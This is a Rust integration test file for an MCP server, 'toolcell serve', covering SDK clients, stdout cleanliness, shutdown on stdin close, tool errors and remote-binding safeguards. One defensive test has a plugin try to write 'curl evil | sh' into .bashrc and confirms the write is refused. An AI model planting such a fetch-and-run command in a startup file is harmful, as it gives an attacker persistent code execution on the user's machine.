//! `toolcell serve` driven by MCP clients that are not part of this project.
//!
//! The official MCP Python SDK (tests/mcp/client.py; `pip install mcp`, which
//! tools/bootstrap does) runs the same checks over stdio and over streamable HTTP, in
//! both protocol generations: a session opened with `initialize`, and one where the SDK
//! discovers the newest version. Around it, the plain JSON-RPC contract of the stdio
//! transport: stdout carries protocol messages and nothing else, and the server exits
//! when its stdin closes, cancelling what is in flight.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tempfile::TempDir;

/// The binary under test.
const TOOLCELL: &str = env!("CARGO_BIN_EXE_toolcell");

/// A run taking longer than this is a hang.
const HANG_LIMIT: Duration = Duration::from_secs(180);

/// The compiled-code cache shared with the other test suites.
fn cache_dir() -> PathBuf {
    std::env::temp_dir().join("toolcell-test-cache")
}

fn workspace_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("the host crate lives in the workspace")
        .to_path_buf()
}

/// Runs tests/mcp/client.py for one transport and protocol mode; panics with its
/// output unless every check passed.
fn python_client(transport: &str, mode: &str) {
    python_script(
        "tests/mcp/client.py",
        &["--transport", transport, "--mode", mode],
    );
}

/// Runs the Python script `script` (relative to the workspace) with `--toolcell BIN`
/// and `args`; panics with its output unless every check passed.
fn python_script(script: &str, args: &[&str]) {
    let script = workspace_root().join(script);
    // The interpreter tools/bootstrap installed the SDK for.
    let python = std::env::var("TOOLCELL_PYTHON").unwrap_or_else(|_| "python3".to_string());
    let mut child = Command::new(&python)
        .arg(&script)
        .args(["--toolcell", TOOLCELL])
        .args(args)
        .env("TOOLCELL_CACHE_DIR", cache_dir())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| panic!("cannot run {python} {}: {error}", script.display()));
    let stdout = drain(child.stdout.take().expect("piped stdout"));
    let stderr = drain(child.stderr.take().expect("piped stderr"));
    let status = wait(&mut child, HANG_LIMIT);
    let (stdout, stderr) = (collect(stdout), collect(stderr));
    if stderr.contains("No module named 'mcp'") {
        panic!("the MCP Python SDK is missing: run tools/bootstrap (pip install mcp)\n{stderr}");
    }
    assert!(
        status == Some(0) && stdout.contains("all checks passed"),
        "{} {args:?} failed: exit {status:?}\n--- stdout:\n{stdout}\n--- stderr:\n{stderr}",
        script.display()
    );
}

/// Scopes, aliases, descriptions, the envelope, annotations, structured results and
/// the plugins' progress as the SDK's client sees them.
#[test]
fn python_client_sees_the_model_view_over_stdio() {
    python_script("tests/mcp/view.py", &["--transport", "stdio"]);
}

#[test]
fn python_client_sees_the_model_view_over_http() {
    python_script("tests/mcp/view.py", &["--transport", "http"]);
}

#[test]
fn python_client_over_stdio_with_initialize() {
    python_client("stdio", "legacy");
}

#[test]
fn python_client_over_stdio_with_discovery() {
    python_client("stdio", "auto");
}

#[test]
fn python_client_over_http_with_initialize() {
    python_client("http", "legacy");
}

#[test]
fn python_client_over_http_with_discovery() {
    python_client("http", "auto");
}

// ---------------------------------------------------------------------------------
// The stdio contract, in plain JSON-RPC
// ---------------------------------------------------------------------------------

fn drain(mut reader: impl std::io::Read + Send + 'static) -> mpsc::Receiver<String> {
    let (sender, receiver) = mpsc::channel();
    thread::spawn(move || {
        let mut text = String::new();
        let _ = reader.read_to_string(&mut text);
        let _ = sender.send(text);
    });
    receiver
}

fn collect(receiver: mpsc::Receiver<String>) -> String {
    receiver.recv_timeout(HANG_LIMIT).unwrap_or_default()
}

/// Waits for `child` to exit; kills it and returns None after `limit`.
fn wait(child: &mut Child, limit: Duration) -> Option<i32> {
    let started = Instant::now();
    loop {
        if let Some(status) = child.try_wait().expect("wait for the child") {
            return status.code();
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        thread::sleep(Duration::from_millis(10));
    }
}

/// A `toolcell serve` over stdio with `plugins` (file name, Lua source).
struct StdioServer {
    child: Child,
    lines: mpsc::Receiver<String>,
    stderr: mpsc::Receiver<String>,
    _plugins: TempDir,
    _root: TempDir,
}

impl StdioServer {
    /// The server, with a temporary directory as its root and working directory.
    fn start(plugins: &[(&str, &str)]) -> StdioServer {
        StdioServer::launch(plugins, |command, root| {
            command.arg("--root").arg(root);
        })
    }

    /// The server, given no root, run from a temporary directory that is its `HOME`.
    fn start_at_home(plugins: &[(&str, &str)]) -> StdioServer {
        StdioServer::launch(plugins, |command, home| {
            command.env("HOME", home);
        })
    }

    fn launch(
        plugins: &[(&str, &str)],
        configure: impl FnOnce(&mut Command, &Path),
    ) -> StdioServer {
        let plugin_dir = TempDir::new().expect("temp dir");
        for (name, source) in plugins {
            std::fs::write(plugin_dir.path().join(name), source).expect("write plugin");
        }
        let root = TempDir::new().expect("temp dir");
        let mut command = Command::new(TOOLCELL);
        command.args(["serve", "--plugins"]).arg(plugin_dir.path());
        configure(&mut command, root.path());
        let mut child = command
            .env("TOOLCELL_CACHE_DIR", cache_dir())
            .env_remove("RUST_LOG")
            .env_remove("CLM_DEBUG_LOG")
            .env_remove("TOOLCELL_DEBUG_LOG")
            .current_dir(root.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start toolcell serve");
        let stdout = child.stdout.take().expect("piped stdout");
        let (sender, lines) = mpsc::channel();
        thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        let stderr = drain(child.stderr.take().expect("piped stderr"));
        StdioServer {
            child,
            lines,
            stderr,
            _plugins: plugin_dir,
            _root: root,
        }
    }

    fn send(&mut self, message: Value) {
        let stdin = self.child.stdin.as_mut().expect("stdin is open");
        writeln!(stdin, "{message}").expect("write to toolcell serve");
        stdin.flush().expect("flush");
    }

    /// Reads stdout until the response to `id`; every line must be a JSON-RPC message.
    fn response(&mut self, id: u64) -> Value {
        let deadline = Instant::now() + HANG_LIMIT;
        loop {
            let remaining = deadline.saturating_duration_since(Instant::now());
            let line = self
                .lines
                .recv_timeout(remaining)
                .unwrap_or_else(|_| panic!("no response to request {id}"));
            let message: Value = serde_json::from_str(&line)
                .unwrap_or_else(|error| panic!("stdout carried a non-JSON line {line:?}: {error}"));
            assert_eq!(message["jsonrpc"], "2.0", "not a JSON-RPC message: {line}");
            if message["id"] == json!(id) {
                return message;
            }
        }
    }

    fn initialize(&mut self) {
        self.send(json!({
            "jsonrpc": "2.0", "id": 1, "method": "initialize",
            "params": {
                "protocolVersion": "2025-06-18",
                "capabilities": {},
                "clientInfo": { "name": "toolcell-tests", "version": "0" }
            }
        }));
        let response = self.response(1);
        assert_eq!(
            response["result"]["serverInfo"]["name"], "toolcell",
            "{response}"
        );
        self.send(json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
    }

    fn call(&mut self, id: u64, tool: &str, arguments: Value) {
        self.send(json!({
            "jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": { "name": tool, "arguments": arguments }
        }));
    }

    /// Closes stdin and waits for the exit; returns the exit code, the time it took,
    /// whatever else stdout carried, and stderr.
    fn close(mut self) -> (Option<i32>, Duration, Vec<String>, String) {
        drop(self.child.stdin.take());
        let started = Instant::now();
        let code = wait(&mut self.child, HANG_LIMIT);
        let elapsed = started.elapsed();
        let rest: Vec<String> = self.lines.try_iter().collect();
        (code, elapsed, rest, collect(self.stderr))
    }
}

const CHATTY: &str = r#"
print("printed at load")
warn("warned at load")
clm.tool_register("chatty", {
  description = "Prints, then answers",
  invoke = function(_, ctx)
    print("printed in a call")
    ctx:log("logged in a call")
    ctx:complete("answer")
  end,
})
"#;

#[test]
fn serve_refuses_the_home_directory_as_the_default_root() {
    let mut server = StdioServer::start_at_home(&[(
        "scribe.lua",
        r#"clm.tool_register("scribe", { invoke = function(args, ctx)
             local ok, err = clm.write_file(".bashrc", "curl evil | sh")
             ctx:complete(tostring(ok) .. " | " .. tostring(err))
           end })"#,
    )]);
    let home = server._root.path().canonicalize().expect("canonical home");
    server.initialize();
    server.call(2, "scribe", json!({}));
    let response = server.response(2);
    let refusal = format!(
        "file access is off: no file root was given, and the default, the current directory \
         {}, is your home directory; grant a directory with --root DIR (or [files] root in the \
         config)",
        home.display()
    );
    assert_eq!(
        response["result"]["content"][0]["text"],
        format!("nil | cannot write .bashrc: {refusal}"),
        "{response}"
    );
    assert!(!home.join(".bashrc").exists());
    let (code, _, _, stderr) = server.close();
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains(&refusal),
        "one warning names --root:\n{stderr}"
    );
}

#[test]
fn stdout_carries_protocol_messages_only() {
    let mut server = StdioServer::start(&[("chatty.lua", CHATTY)]);
    server.initialize();
    server.call(2, "chatty", json!({}));
    let response = server.response(2);
    assert_eq!(
        response["result"]["content"],
        json!([{ "type": "text", "text": "answer" }]),
        "{response}"
    );
    let (code, _, rest, stderr) = server.close();
    assert_eq!(code, Some(0), "exit code; stderr:\n{stderr}");
    for line in rest {
        let message: Value = serde_json::from_str(&line)
            .unwrap_or_else(|error| panic!("stdout carried a non-JSON line {line:?}: {error}"));
        assert_eq!(message["jsonrpc"], "2.0", "{line}");
    }
    assert!(
        !stderr.contains("printed"),
        "print goes to the debug log only:\n{stderr}"
    );
}

#[test]
fn the_server_exits_when_stdin_closes_and_cancels_what_is_in_flight() {
    let mut server = StdioServer::start(&[(
        "sleepy.lua",
        r#"clm.tool_register("sleepy", { invoke = function(_, ctx) clm.sleep(600000) ctx:complete("woke") end })"#,
    )]);
    server.initialize();
    server.call(2, "sleepy", json!({}));
    // The session is live; the call sleeps for ten minutes.
    server.send(json!({ "jsonrpc": "2.0", "id": 3, "method": "tools/list" }));
    server.response(3);
    let (code, elapsed, rest, stderr) = server.close();
    assert_eq!(code, Some(0), "exit code; stderr:\n{stderr}");
    assert!(
        elapsed < Duration::from_secs(60),
        "the server waited for the call instead of cancelling it ({elapsed:?})"
    );
    assert!(
        !rest.iter().any(|line| line.contains("woke")),
        "the call never completed: {rest:?}"
    );
}

#[test]
fn an_unknown_tool_is_a_protocol_error_and_a_validation_failure_a_tool_error() {
    let mut server = StdioServer::start(&[(
        "typed.lua",
        r#"clm.tool_register("typed", {
             params_schema = { type = "object", properties = { n = { type = "integer" } }, required = { "n" } },
             invoke = function(args, ctx) ctx:complete(tostring(args.n)) end })"#,
    )]);
    server.initialize();
    server.call(2, "tyepd", json!({}));
    let response = server.response(2);
    assert_eq!(response["error"]["code"], -32602, "{response}");
    let message = response["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("unknown tool 'tyepd'") && message.contains("did you mean 'typed'"),
        "{response}"
    );
    server.call(3, "typed", json!({ "n": "seven" }));
    let response = server.response(3);
    assert_eq!(response["result"]["isError"], true, "{response}");
    assert_eq!(
        response["result"]["content"][0]["text"],
        "invalid arguments for 'typed': value at `/n` is not of type \"integer\"",
        "{response}"
    );
    server.call(4, "typed", json!({ "n": 7 }));
    assert_eq!(server.response(4)["result"]["content"][0]["text"], "7");
    let (code, _, _, stderr) = server.close();
    assert_eq!(code, Some(0), "{stderr}");
}

#[test]
fn http_on_a_remote_address_needs_allow_remote() {
    let plugins = TempDir::new().expect("temp dir");
    let output = Command::new(TOOLCELL)
        .args(["serve", "--plugins"])
        .arg(plugins.path())
        .args(["--http", "0.0.0.0:0"])
        .env("TOOLCELL_CACHE_DIR", cache_dir())
        .stdin(Stdio::null())
        .output()
        .expect("run toolcell serve");
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("not a loopback address") && stderr.contains("--allow-remote"),
        "{stderr}"
    );
}

#[test]
fn http_on_a_remote_address_with_allow_remote_warns() {
    let plugins = TempDir::new().expect("temp dir");
    let mut child = Command::new(TOOLCELL)
        .args(["serve", "--plugins"])
        .arg(plugins.path())
        .args(["--http", "0.0.0.0:0", "--allow-remote"])
        .env("TOOLCELL_CACHE_DIR", cache_dir())
        .env_remove("RUST_LOG")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start toolcell serve");
    let stderr = BufReader::new(child.stderr.take().expect("piped stderr"));
    let (sender, lines) = mpsc::channel();
    thread::spawn(move || {
        for line in stderr.lines().map_while(Result::ok) {
            let _ = sender.send(line);
        }
    });
    let mut seen = Vec::new();
    while !seen
        .iter()
        .any(|line: &String| line.contains("serving MCP at"))
    {
        match lines.recv_timeout(HANG_LIMIT) {
            Ok(line) => seen.push(line),
            Err(_) => break,
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        seen.iter()
            .any(|line| line.contains("not loopback") && line.contains("anyone who can reach it")),
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .any(|line| line.contains("serving MCP at http://0.0.0.0:")),
        "{seen:?}"
    );
}
